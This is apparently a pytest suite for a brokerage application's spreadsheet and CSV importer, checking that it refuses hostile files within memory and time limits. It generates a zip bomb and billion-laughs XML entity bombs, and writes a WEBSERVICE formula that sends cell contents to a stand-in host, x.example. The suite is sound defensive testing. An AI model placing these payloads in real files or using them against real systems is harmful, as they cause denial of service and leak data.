"""Files made to harm: each is refused with a sentence, or read, in a child whose memory and time are bounded (E4).

`-s` prints what the largest child took of each.
"""

import io
import json
import subprocess
import sys
import zipfile

import pytest
import xlsxwriter

from brokerage.transfer.reading import limits
from tests.test_transfer_reading import bomb, far_cell, liar, many_entries, opendocument, workbook

MEMORY = limits.MEMORY_BYTES // 1000  # kilobytes that no child may pass
USUAL = 400_000  # kilobytes that reading an ordinary file of five megabytes takes at most
ALONE = """
import json, resource, sys, time
from brokerage.errors import BadInput
from brokerage.transfer import apart
started, data = time.monotonic(), sys.stdin.buffer.read()
try:
    said = len(apart.understand(data).rows)
except BadInput as no:
    said = str(no)
print(json.dumps([said, resource.getrusage(resource.RUSAGE_CHILDREN).ru_maxrss, round(time.monotonic() - started, 1)]))
"""
HEADER = "Établissement;Ville;Mail;Remarques"
SHEET = '<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>{}</sheetData></worksheet>'


def rewritten(part: str, content: bytes | str, stored: bool = False) -> bytes:
    """An ordinary workbook with another content in one of its parts."""
    source, out = zipfile.ZipFile(io.BytesIO(workbook(["Lycée", "Ville"], ["Alpha", "Paris"]))), io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_STORED if stored else zipfile.ZIP_DEFLATED) as archive:
        for name in source.namelist():
            archive.writestr(name, content if name == part else source.read(name))
    return out.getvalue()


def padded(data: bytes) -> bytes:
    """With an incompressible part, so that the ratio of the whole looks ordinary."""
    import random

    out = io.BytesIO(data)
    with zipfile.ZipFile(out, "a", zipfile.ZIP_STORED) as archive:
        archive.writestr("xl/media/image1.png", random.Random(1).randbytes(2_000_000))
    return out.getvalue()


def empty_cells(rows: int) -> str:
    """Cells with a style and nothing in them, as a coloured sheet has by the million."""
    row = "".join(f'<c r="{chr(65 + at)}{{0}}" s="1"/>' for at in range(26))
    return SHEET.format("".join(f'<row r="{at}">{row.replace("{0}", str(at))}</row>' for at in range(1, rows)))


def billion_laughs(root: str) -> str:
    entities = "".join(f'<!ENTITY l{at} "{f"&l{at - 1};" * 10}">' for at in range(1, 12))
    return f'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY l0 "ha">{entities}]><{root}>&l11;</{root}>'


def locked_zip() -> bytes:
    data = bytearray(workbook(["Lycée"], ["Alpha"]))
    at = 0
    while (at := data.find(b"PK\x01\x02", at)) >= 0:
        data[at + 8] |= 1
        at += 4
    return bytes(data)


def formulas() -> bytes:
    file = io.BytesIO()
    with xlsxwriter.Workbook(file, {"in_memory": True}) as book:
        sheet = book.add_worksheet()
        sheet.write_row(0, 0, ["Lycée", "Ville", "Mail"])
        for at in range(1, 500):
            sheet.write_formula(at, 0, f'=WEBSERVICE("http://x.example/"&A{at})', None, f"Lycée {at}")
    return file.getvalue()


def lines(count: int, line: str = "Lycée Alpha;Paris;a@a.example;") -> str:
    return "\n".join([HEADER, *[line] * count])


REFUSED = {
    "a zip bomb": (bomb, limits.DENSE),
    "a zip bomb beside a picture": (lambda: padded(rewritten("xl/sharedStrings.xml", b"<sst>" + b"<si><t>x</t></si>" * 3_500_000)), limits.DENSE),
    "many entries": (many_entries, limits.DENSE),
    "a directory that lies": (liar, limits.DAMAGED),
    "a cell at the end of the world": (far_cell, limits.TOO_LONG),
    "entities in the sheet": (lambda: rewritten("xl/worksheets/sheet1.xml", billion_laughs("worksheet")), limits.DENSE),
    "entities in the list of sheets": (lambda: rewritten("xl/workbook.xml", billion_laughs("workbook")), limits.DENSE),
    "entities in an .ods": (lambda: opendocument("", before=billion_laughs("x").split("<x>")[0].split("?>")[1]), limits.DENSE),
    "a truncated workbook": (lambda: workbook(*[["Alpha", "Paris"]] * 300)[:4000], limits.DAMAGED),
    "a sheet cut in the middle": (lambda: rewritten("xl/worksheets/sheet1.xml", empty_cells(50)[:900]), limits.DAMAGED),
    "a password": (locked_zip, limits.LOCKED),
    "an old workbook, or a password": (lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 4000, limits.LOCKED),
    "a picture called .xlsx": (lambda: b"\x89PNG\r\n\x1a\n" + b"\0" * 4000, limits.NOT_A_TABLE),
    "a program": (lambda: bytes(range(256)) * 4000, limits.NOT_A_TABLE),
    "another zip": (lambda: many_files("word/document.xml"), limits.NOT_A_TABLE),
    "nothing but NULs": (lambda: b"\0" * 100_000, limits.NOT_A_TABLE),
    "too many lines": (lambda: lines(limits.ROWS + 1).encode(), limits.TOO_LONG),
    "two hundred megabytes in one line": (lambda: b"x" * 200_000_000, limits.TOO_HEAVY),
}
READ = {
    "a million empty cells": (lambda: padded(rewritten("xl/worksheets/sheet1.xml", empty_cells(38_000))), None),
    "five megabytes in one line": (lambda: b"Lyc\xc3\xa9e;Ville\n" + b"x" * (limits.BYTES - 100), 2),
    "five megabytes of semicolons": (lambda: b";" * limits.BYTES, 1),
    "five megabytes of quotation marks": (lambda: b"Nom;Ville\n" + b'"' * (limits.BYTES - 100), 2),
    "twenty thousand lines": (lambda: lines(limits.ROWS - 1).encode(), limits.ROWS),
    "Windows": (lambda: lines(5).encode("cp1252"), 6),
    "UTF-16": (lambda: lines(5).encode("utf-16"), 6),
    "an old Mac": (lambda: lines(5).encode("mac_roman"), 6),
    "a NUL here and there": (lambda: (lines(100) + "\nLyc\0ée;Paris;a@a.example;").encode(), 102),
    "formulas": (formulas, 500),
    "deep markup": (lambda: rewritten("xl/worksheets/sheet1.xml", "<a>" * 200_000 + "</a>" * 200_000, stored=True), None),
}


def many_files(name: str) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr(name, b"<x/>")
    return out.getvalue()


def alone(data: bytes) -> tuple[int | str, int, float]:
    """What reading it says, the kilobytes that its largest child took, and the seconds."""
    done = subprocess.run([sys.executable, "-c", ALONE], input=data, capture_output=True, check=True, timeout=2 * limits.ALL_SECONDS)
    return tuple(json.loads(done.stdout))


@pytest.mark.slow
@pytest.mark.parametrize("name", REFUSED)
def test_a_file_made_to_harm_is_refused_with_a_sentence(name):
    made, sentence = REFUSED[name]

    said, peak, seconds = alone(made())

    print(f"\n{name}: « {said} » {peak // 1000} MB, {seconds} s")
    assert said == sentence
    assert peak < USUAL
    assert seconds < limits.SECONDS


@pytest.mark.slow
@pytest.mark.parametrize("name", READ)
def test_an_odd_file_is_read_whole_or_refused_with_a_sentence(name):
    made, rows = READ[name]

    said, peak, seconds = alone(made())

    print(f"\n{name}: {said} {peak // 1000} MB, {seconds} s")
    assert said == rows if rows else isinstance(said, int) or said in vars(limits).values()
    assert peak < MEMORY
    assert seconds < limits.ALL_SECONDS


def test_a_file_of_two_hundred_megabytes_is_not_even_read_by_the_command(as_member, nadia, tmp_path):
    from brokerage.errors import BadInput
    from brokerage.transfer import imports

    path = tmp_path / "enorme.csv"
    with path.open("wb") as file:
        file.truncate(200_000_000)

    with as_member(nadia), pytest.raises(BadInput) as no:
        imports.bring_in(path, source="un disque")

    assert str(no.value) == limits.TOO_HEAVY
